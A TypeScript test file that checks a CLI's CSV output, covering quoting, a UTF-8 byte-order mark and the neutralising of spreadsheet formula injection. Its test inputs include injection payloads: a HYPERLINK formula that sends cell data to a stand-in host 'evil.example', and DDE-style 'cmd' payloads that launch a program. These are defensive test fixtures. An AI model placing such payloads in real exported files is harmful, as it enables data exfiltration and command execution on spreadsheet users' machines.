import { afterEach, describe, expect, it, vi } from 'vitest';
import { printRows } from '../src/cli/shared.js';

/** What printRows wrote to stdout, as bytes. */
function captured(run: () => void): Buffer {
  const chunks: Buffer[] = [];
  const spy = vi.spyOn(process.stdout, 'write').mockImplementation((chunk: string | Uint8Array) => {
    chunks.push(Buffer.from(chunk));
    return true;
  });
  try {
    run();
  } finally {
    spy.mockRestore();
  }
  return Buffer.concat(chunks);
}

const csvOf = (rows: Array<Record<string, unknown>>) => captured(() => printRows(rows, 'csv')).toString('utf8');

afterEach(() => vi.restoreAllMocks());

describe('CSV output (issue #8 item 9)', () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', `"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")"`],
    ["+cmd|' /C calc'!A0", `'+cmd|' /C calc'!A0`],
    ["@SUM(1+1)*cmd|' /C calc'!A0", `'@SUM(1+1)*cmd|' /C calc'!A0`],
    ['-2+3', `'-2+3`],
    ['\t=1+1', `'\t=1+1`],
    ['\r=1+1', `"'\r=1+1"`],
  ])('neutralises the formula cell %j', (name, cell) => {
    expect(csvOf([{ id: 1, name }])).toBe(`id,name\n1,${cell}\n`);
  });

  it('quotes a bare CR, a LF, a quote and a comma; leaves plain cells and numbers alone', () => {
    const out = csvOf([{ a: 'one\rtwo', b: 'x\ny', c: 'say "hi"', d: 'a,b', e: 'Plain text', f: -5, g: 'a=b' }]);
    expect(out).toBe('a,b,c,d,e,f,g\n"one\rtwo","x\ny","say ""hi""","a,b",Plain text,-5,a=b\n');
  });

  it('--bom puts the UTF-8 byte-order mark first, once, before Arabic names', () => {
    const bytes = captured(() => printRows([{ tenant: 'فاطمة العلي' }], { format: 'csv', bom: true }));
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(bytes.subarray(3).toString('utf8')).toBe('tenant\nفاطمة العلي\n');
    expect(captured(() => printRows([{ tenant: 'x' }], 'csv'))[0]).toBe(0x74); // no BOM unless asked
  });
});
